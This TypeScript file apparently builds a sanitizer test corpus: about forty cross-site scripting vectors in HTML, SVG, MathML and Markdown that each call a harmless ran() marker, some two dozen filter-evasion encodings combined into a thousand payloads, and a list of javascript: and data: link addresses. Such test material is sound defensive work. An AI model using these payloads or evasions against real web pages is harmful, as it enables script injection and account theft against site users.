/** Texts that would run a script where a page took them for more than text; each calls `ran()`. */

/** Markup and Markdown of the kinds that the cheat sheets of OWASP and PortSwigger sort them into. */
const vectors: readonly string[] = [
  '<script>ran()</script>',
  '<script src="data:text/javascript,ran()"></script>',
  '<img src=x onerror=ran()>',
  '<img src=x:x onerror=ran() //',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x">',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
  '<body onload=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<details open ontoggle=ran()>x</details>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()></select>',
  '<video><source onerror=ran()></video>',
  '<a href="javascript:ran()">x</a>',
  '<a href="data:text/html,<script>opener.ran()</script>" target=_blank>x</a>',
  '<form action="javascript:ran()"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:ran()">x</button>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=ran()>x</p>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=ran()>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href="javascript:ran()//"><a href="x">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  '<template><img src=x onerror=ran()></template>',
  '<p onclick=ran() onmouseover=ran()>x</p>',
  '[x](javascript:ran())',
  '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=)',
  '![x](x"onerror="ran())',
  '[x]: javascript:ran()\n\n[x]',
  '<javascript:ran()>',
  '`<img src=x onerror=ran()>`<img src=x onerror=ran()>',
  '<img alt="<pre><img src=x onerror=ran()>">',
  '<a title="<table><img src=x onerror=ran()>">x</a>',
  '{{constructor.constructor("ran()")()}}',
]

/** Ways to write the same so that a filter looks past it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('RAN()', 'ran()'),
  (text) =>
    text
      .replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter))
      .replaceAll(/ran\(\)/gi, 'ran()'),
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `-->${text}`,
  (text) => `]]>${text}`,
  (text) => `<<${text}`,
  (text) => `<p><b>${text}`,
  (text) => `<svg></p><style><a id="</style>${text}">`,
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll('=', ' = '),
  (text) => text.replaceAll('javascript:', 'java\tscript:'),
  (text) => text.replaceAll('javascript:', '\u0001javascript:'),
  (text) => text.replaceAll('javascript:', 'javascript&colon;'),
  (text) => text.replaceAll('javascript:', '&#106;&#x61;vascript:'),
  (text) => text.replaceAll('ran()', '&#114;an&lpar;&rpar;'),
  (text) => text.replaceAll('ran()', 'ran``'),
  (text) => text.replaceAll('ran()', "self['r'+'an']()"),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
]

const TOTAL = 1000

/** Each in each disguise, then in two, until there are a thousand that differ. */
function* disguised(): Generator<string> {
  for (const disguise of disguises) yield* vectors.map(disguise)
  for (const outer of disguises)
    for (const inner of disguises) yield* vectors.map((text) => outer(inner(text)))
}

/** One thousand of them. */
export const payloads: readonly string[] = [...new Set(disguised())].slice(0, TOTAL)

/** What a link might lead to. */
export const addresses: readonly string[] = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  '\u0001javascript:ran()',
  'java\nscript:ran()',
  'javascript://x/%0aran()',
  'vbscript:ran()',
  'data:text/html,<script>opener.ran()</script>',
  'https://x/"onmouseover="ran()',
]
